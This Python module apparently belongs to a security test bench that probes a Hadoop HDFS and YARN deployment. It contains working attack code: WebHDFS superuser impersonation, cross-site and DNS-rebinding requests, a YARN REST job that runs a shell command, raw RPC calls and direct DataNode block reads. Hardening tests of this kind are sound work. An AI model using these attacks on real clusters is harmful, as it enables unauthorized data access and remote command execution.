"""Attempts at HDFS and YARN: pages and REST, RPC, and the DataNode's bytes."""

import json
import struct
import time

from bench.attacks import rpc, web
from bench.attacks.attempts import ATTEMPTS, Attempt, Failed, Refused, Target, Wall, Who, attempt

FILES = "/webhdfs/v1"
SCRATCH = "/tmp"  # Of HDFS: everybody may write there, under a name.

PAGES = {
    "NAMENODE_HTTP": ("NameNode's page", ("/jmx", "/conf", "/stacks", "/fsck?ugi=aero&path=/")),
    "DATANODE_HTTP": ("DataNode's page", ("/jmx", "/conf", "/stacks")),
    "SECONDARY_NAMENODE_HTTP": ("SecondaryNameNode's page", ("/jmx", "/conf", "/stacks")),
    "RESOURCEMANAGER_HTTP": ("YARN's page", ("/jmx", "/conf", "/stacks", "/cluster", "/ws/v1/cluster/apps")),
    "NODEMANAGER_HTTP": ("NodeManager's page", ("/jmx", "/conf", "/node", "/ws/v1/node/containers")),
}
for port, (door, paths) in PAGES.items():
    ATTEMPTS.append(
        Attempt("an operator reads /jmx", door, "GET /jmx", web.read(port, "/jmx"), port, Who.OPERATOR, Wall.NONE)
    )
    for path in paths:
        ATTEMPTS.append(
            Attempt(f"reads {path.partition('?')[0]}", door, f"GET {path}", web.read(port, path), port, issue=3)
        )


def _op(target: Target, method: str, path: str, op: str, door: str = "NAMENODE_HTTP", **what):
    return web.ask(target, method, door, f"{FILES}{path}?op={op}", **what)


@attempt("WebHDFS", "NAMENODE_HTTP", issue=7)
def lists_files_as_the_superuser(target: Target) -> str:
    """LISTSTATUS of / with user.name=aero"""
    return web.proof(_op(target, "GET", "/", f"LISTSTATUS&user.name={target.user}"), "FileStatuses")


@attempt("WebHDFS", "NAMENODE_HTTP", issue=7)
def makes_a_folder_as_the_superuser(target: Target) -> str:
    """MKDIRS in the root of HDFS with user.name=aero"""
    found = web.proof(_op(target, "PUT", f"/{target.marker}", f"MKDIRS&user.name={target.user}"), '"boolean":true')
    _op(target, "DELETE", f"/{target.marker}", f"DELETE&user.name={target.user}")
    return found


@attempt("WebHDFS", "NAMENODE_HTTP", issue=7)
def writes_a_file(target: Target) -> str:
    """CREATE at the NameNode, the bytes to the DataNode that it names"""
    path = f"{SCRATCH}/{target.marker}"
    sent = _op(target, "PUT", path, f"CREATE&user.name={target.user}")
    if sent.status_code != 307:
        return web.proof(sent)
    place = _there(target, sent.headers["Location"])
    found = web.proof(web.ask_at(target, "PUT", place, data=b"marker"))
    _op(target, "DELETE", path, f"DELETE&user.name={target.user}")
    return f"written: {found}"


def _there(target: Target, location: str) -> str:
    """An address that HDFS named, as it is reached from here."""
    _, _, rest = location.partition("//")
    port = rest.partition("/")[0].rpartition(":")[2]
    return f"http://{target.host}:{port}/{rest.partition('/')[2]}"


@attempt("WebHDFS", "NAMENODE_HTTP", issue=7)
def acts_for_another(target: Target) -> str:
    """LISTSTATUS with user.name=aero and doas=aero"""
    return web.proof(_op(target, "GET", "/", f"LISTSTATUS&user.name={target.user}&doas={target.user}"), "FileStatuses")


@attempt("WebHDFS", "NAMENODE_HTTP", issue=7)
def takes_the_image_of_all_names(target: Target) -> str:
    """GET /imagetransfer?getimage=1&txid=latest, as the SecondaryNameNode does"""
    return web.proof(web.ask(target, "GET", "NAMENODE_HTTP", "/imagetransfer?getimage=1&txid=latest", stream=False))


@attempt("WebHDFS", "NAMENODE_HTTP", who=Who.READER, issue=7)
def comes_in_with_a_reader_s_password(target: Target) -> str:
    """LISTSTATUS with user.name=aero and a reader's name and password"""
    return web.proof(_op(target, "GET", "/", f"LISTSTATUS&user.name={target.user}"), "FileStatuses")


@attempt("WebHDFS", "NAMENODE_HTTP", who=Who.BROWSER, issue=3)
def a_foreign_page_empties_a_file(target: Target) -> str:
    """POST TRUNCATE from a form of another site (text/plain), through the browser of somebody who is signed in"""
    path = f"{SCRATCH}/{target.marker}"
    headers = web.FOREIGN | {"Content-Type": "text/plain"}
    answer = _op(target, "POST", path, f"TRUNCATE&newlength=0&user.name={target.user}", headers=headers)
    # There is no such file: a door that is open says so, one that is shut says no.
    if answer.status_code == 404 and "FileNotFoundException" in answer.text:
        return "404: it looked for the file to empty it"
    return web.proof(answer)


@attempt("WebHDFS", "NAMENODE_HTTP", who=Who.BROWSER, issue=3)
def a_name_that_points_here_reads_files(target: Target) -> str:
    """GET with a Host of another site whose name leads to 127.0.0.1 (DNS rebinding)"""
    headers = {"Host": f"evil.example:{target.port('NAMENODE_HTTP')}", "User-Agent": "Mozilla/5.0"}
    return web.proof(_op(target, "GET", "/", f"LISTSTATUS&user.name={target.user}", headers=headers), "FileStatuses")


@attempt("WebHDFS of the DataNode", "DATANODE_HTTP", issue=7)
def reads_bytes_without_the_namenode(target: Target) -> str:
    """OPEN at the DataNode itself with user.name=aero"""
    where = f"{target.settings.host('NAMENODE')}:{target.port('NAMENODE')}"
    op = f"OPEN&user.name={target.user}&namenoderpcaddress={where}&length=40"
    return web.proof(_op(target, "GET", "/aero/ops/freshness/freshness.tsv", op, "DATANODE_HTTP"))


@attempt("WebHDFS of the DataNode", "DATANODE_HTTP", issue=7)
def writes_bytes_without_the_namenode(target: Target) -> str:
    """CREATE at the DataNode itself with user.name=aero"""
    where = f"{target.settings.host('NAMENODE')}:{target.port('NAMENODE')}"
    op = f"CREATE&user.name={target.user}&namenoderpcaddress={where}&createparent=true"
    path = f"{SCRATCH}/{target.marker}"
    answer = _op(target, "PUT", path, op, "DATANODE_HTTP", data=b"marker")
    found = web.proof(answer)
    _op(target, "DELETE", path, f"DELETE&user.name={target.user}")
    return found


@attempt("WebHDFS of the DataNode", "DATANODE_HTTP", who=Who.BROWSER, issue=3)
def a_foreign_page_reads_bytes(target: Target) -> str:
    """OPEN at the DataNode with a foreign Host and Origin"""
    where = f"{target.settings.host('NAMENODE')}:{target.port('NAMENODE')}"
    op = f"OPEN&user.name={target.user}&namenoderpcaddress={where}&length=40"
    headers = web.FOREIGN | {"Host": "evil.example"}
    path = "/aero/ops/freshness/freshness.tsv"
    return web.proof(_op(target, "GET", path, op, "DATANODE_HTTP", headers=headers))


for port, (door, _) in PAGES.items():
    if port == "DATANODE_HTTP":
        continue  # Its netty has no such page.
    level = "/logLevel?log=aero.attack&level=DEBUG"
    ATTEMPTS.append(Attempt("changes a level of logging", door, f"GET {level}", web.read(port, level), port))


def _new_application(target: Target, **headers: str) -> str:
    path = f"/ws/v1/cluster/apps/new-application?user.name={target.user}"
    return web.proof(web.ask(target, "POST", "RESOURCEMANAGER_HTTP", path, headers=headers), "application-id")


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", issue=3)
def asks_for_an_application(target: Target) -> str:
    """POST new-application with user.name=aero"""
    return _new_application(target)


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", who=Who.BROWSER, issue=3)
def a_foreign_page_asks_for_an_application(target: Target) -> str:
    """POST new-application from a page of another site"""
    return _new_application(target, **web.FOREIGN, **{"Content-Type": "text/plain"})


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", who=Who.BROWSER, issue=3)
def a_name_that_points_here_asks_for_an_application(target: Target) -> str:
    """POST new-application with a Host of another site (DNS rebinding)"""
    return _new_application(target, Host="evil.example:8088", Origin="http://evil.example:8088")


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", who=Who.BROWSER, issue=3)
def a_page_of_another_port_asks_for_an_application(target: Target) -> str:
    """POST new-application from a page of the same host and another port"""
    headers = web.FOREIGN | {
        "Origin": "http://127.0.0.1:1",
        "Sec-Fetch-Site": "same-site",
        "Content-Type": "text/plain",
    }
    return _new_application(target, **headers)


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", who=Who.BROWSER, issue=3)
def a_form_of_an_old_browser_asks_for_an_application(target: Target) -> str:
    """POST new-application as a form that says nothing of where it comes from"""
    return _new_application(target, **{"Content-Type": "text/plain", "User-Agent": "Mozilla/4.0"})


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", issue=3, seconds=90)
def runs_a_command(target: Target) -> str:
    """new-application, submit: a shell command in a container, which writes a file"""
    answer = web.ask(
        target, "POST", "RESOURCEMANAGER_HTTP", f"/ws/v1/cluster/apps/new-application?user.name={target.user}"
    )
    web.proof(answer)
    file = target.folder / "ran"
    order = {
        "application-id": answer.json()["application-id"],
        "application-name": target.marker,
        "application-type": "attack",
        "am-container-spec": {"commands": {"command": f"id > {file}; chmod a+r {file}"}},
        "max-app-attempts": 1,
        "resource": {"memory": 256, "vCores": 1},
    }
    web.proof(web.ask(target, "POST", "RESOURCEMANAGER_HTTP", f"/ws/v1/cluster/apps?user.name={target.user}",
                      json=order))  # fmt: skip
    until = time.monotonic() + 60
    while time.monotonic() < until:
        if file.exists() and (ran := file.read_text()):
            return f"ran: {ran.strip()}"
        time.sleep(0.5)
    raise Failed("submitted, but it did not run within a minute")


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", issue=3)
def kills_an_application(target: Target) -> str:
    """PUT state KILLED of an application that it made up"""
    path = f"/ws/v1/cluster/apps/application_1_0001/state?user.name={target.user}"
    answer = web.ask(target, "PUT", "RESOURCEMANAGER_HTTP", path, json={"state": "KILLED"})
    return "404: it looked for the application" if answer.status_code == 404 else web.proof(answer)


@attempt("YARN's REST", "RESOURCEMANAGER_HTTP", who=Who.READER, issue=3)
def comes_in_with_a_reader_s_password_there(target: Target) -> str:
    """POST new-application with a reader's name and password"""
    return _new_application(target)


def _call(port: str, protocol: str, method: str, message: rpc.Message) -> object:
    """An attempt's function: one call of Hadoop's RPC as the platform's user."""

    def run(target: Target) -> str:
        answer = rpc.hadoop(target.host, target.port(port), target.user, protocol, method, message)
        return f"answered {method}: {len(str(answer))} characters"

    return run


HDFS, YARN = "org.apache.hadoop.hdfs", "org.apache.hadoop.yarn"
CALLS = (
    ("lists files", "NAMENODE", f"{HDFS}.protocol.ClientProtocol", "getListing", {1: "/", 2: b"", 3: 0}),
    ("asks as another NameNode", "NAMENODE", f"{HDFS}.server.protocol.NamenodeProtocol", "versionRequest", {}),
    ("asks as a DataNode", "NAMENODE", f"{HDFS}.server.protocol.DatanodeProtocol", "versionRequest", {}),
    ("asks for its facts", "DATANODE_IPC", f"{HDFS}.protocol.ClientDatanodeProtocol", "getDatanodeInfo", {}),
    ("asks for an application", "RESOURCEMANAGER", f"{YARN}.api.ApplicationClientProtocolPB", "getNewApplication", {}),
    ("lists applications", "RESOURCEMANAGER", f"{YARN}.api.ApplicationClientProtocolPB", "getApplications", {}),
    ("reads the queues anew", "RESOURCEMANAGER_ADMIN", f"{YARN}.server.api.ResourceManagerAdministrationProtocolPB",
     "refreshQueues", {}),
    ("heartbeats as a NodeManager", "RESOURCEMANAGER_TRACKER", f"{YARN}.server.api.ResourceTrackerPB",
     "unRegisterNodeManager", {1: {1: "no-such-host.example", 2: 1}}),
    ("asks for containers", "RESOURCEMANAGER_SCHEDULER", f"{YARN}.api.ApplicationMasterProtocolPB", "allocate",
     {1: {}, 2: {}, 3: 0, 4: 0}),
    ("asks for a container's state", "NODEMANAGER", f"{YARN}.api.ContainerManagementProtocolPB",
     "getContainerStatuses", {}),
    ("heartbeats as a localizer", "NODEMANAGER_LOCALIZER",
     f"{YARN}.server.nodemanager.api.LocalizationProtocolPB", "heartbeat", {1: "no-such"}),
)  # fmt: skip
for name, port, protocol, method, message in CALLS:
    door = "RPC of " + port.replace("_", " ").title().replace("Ipc", "").strip()
    ATTEMPTS.append(Attempt(name, door, f"{protocol.rpartition('.')[2]}.{method} as aero",
                            _call(port, protocol, method, message), port, wall=Wall.FIREWALL))  # fmt: skip


@attempt("RPC of Namenode", "NAMENODE", wall=Wall.FIREWALL)
def makes_a_folder(target: Target) -> str:
    """ClientProtocol.mkdirs in the root of HDFS as aero"""
    where, path = (target.host, target.port("NAMENODE"), target.user), f"/{target.marker}"
    protocol = f"{HDFS}.protocol.ClientProtocol"
    made = rpc.hadoop(*where, protocol, "mkdirs", {1: path, 2: {1: 0o755}, 3: 1})
    rpc.hadoop(*where, protocol, "delete", {1: path, 2: 1})
    if made.get(1) != [1]:
        raise Failed(f"it answered {made}")
    return "made, and removed again"


@attempt("bytes of the DataNode", "DATANODE", wall=Wall.FIREWALL)
def reads_a_block(target: Target) -> str:
    """the place of a block by RPC, then READ_BLOCK at the DataNode"""
    protocol, path = f"{HDFS}.protocol.ClientProtocol", "/aero/ops/freshness/freshness.tsv"
    where = (target.host, target.port("NAMENODE"), target.user)
    blocks = rpc.hadoop(*where, protocol, "getBlockLocations", {1: path, 2: 0, 3: 1000})[1][0]
    block = rpc.decoded(rpc.decoded(blocks)[2][0])[1][0]
    token = {1: b"", 2: b"", 3: "", 4: ""}
    order = rpc.delimited({1: {1: {1: block, 2: token}, 2: "attack"}, 2: 0, 3: 10, 4: 1})
    with rpc.connected(target.host, target.port("DATANODE")) as connection:
        connection.sendall(struct.pack(">hB", 28, 81) + order)
        size = rpc.receive(connection, 1)[0]
        answer = rpc.decoded(rpc.receive(connection, size))
    if answer[1][0]:
        raise Refused(json.dumps(str(answer)))
    return "the block was sent"
